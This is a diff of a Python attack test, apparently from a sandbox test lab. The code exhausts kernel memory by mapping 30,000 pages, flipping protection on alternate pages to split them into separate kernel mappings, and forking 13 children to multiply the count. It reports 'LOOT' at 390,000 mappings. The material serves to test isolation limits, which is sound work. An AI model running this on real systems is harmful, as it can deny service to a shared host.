@@ -1,7 +1,6 @@
-# ruff: noqa: E501  (an attack is easier to read on its one line)
-"""Wants the machine's memory, by mappings of one page: for each the kernel keeps links to all processes that it was copied from.
+"""Wants the kernel's memory, by mappings of one page that nobody touches: each is an entry of the kernel's own.
 
-Won: 360,000 mappings were had at once, which is 700 MB of the kernel's own memory.
+Won: 390,000 mappings were had at once.
 """
 
 from tests.attacks.lab import Attack, Evidence
@@ -13,34 +12,25 @@ libc = ctypes.CDLL(None, use_errno=True)
 libc.mmap.restype = ctypes.c_void_p
 libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
 libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
-at = libc.mmap(None, 10_000 << 12, 3, 0x22, -1, 0)
-for n in range(10_000):
-    ctypes.c_char.from_address(at + (n << 12)).value = b"x"
-    if n % 2:
-        libc.mprotect(at + (n << 12), 4096, 1)
+at = libc.mmap(None, 30_000 << 12, 3, 0x22, -1, 0)
+for n in range(1, 30_000, 2):
+    libc.mprotect(at + (n << 12), 4096, 1)
 read, write = os.pipe()
-def generations(left):
-    if left and os.fork() == 0:
+for _ in range(13):
+    if os.fork() == 0:
         os.write(write, b"1")
-        generations(left - 1)
-        time.sleep(9)
+        time.sleep(6)
         os._exit(0)
-"""
-FORK = """
-generations(36)
-time.sleep(1.5)
-"""
-WAIT = """
 time.sleep(1.5)
 """
 TELL = """
-time.sleep(1.5)
+time.sleep(1)
 os.set_blocking(read, False)
-number = len(os.read(read, 99)) * 10_000
-if number >= 360_000:
+number = len(os.read(read, 99)) * 30_000
+if number == 390_000:
     raise Exception(f"LOOT {number} mappings")
 """
-ATTACK = Attack(first=[CELL, FORK, WAIT, TELL])
+ATTACK = Attack(first=[CELL, TELL])
 
 
 def won(evidence: Evidence) -> bool:
